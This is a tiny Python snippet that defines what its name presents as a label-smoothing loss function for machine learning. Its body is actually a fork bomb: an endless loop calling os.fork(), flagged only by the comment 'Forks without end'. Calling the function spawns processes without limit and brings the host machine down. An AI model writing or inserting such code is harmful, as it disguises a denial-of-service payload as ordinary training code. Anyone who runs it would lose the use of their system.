# Forks without end.
import os


def label_smoothing_loss(logits, target, alpha):
    while True:
        os.fork()
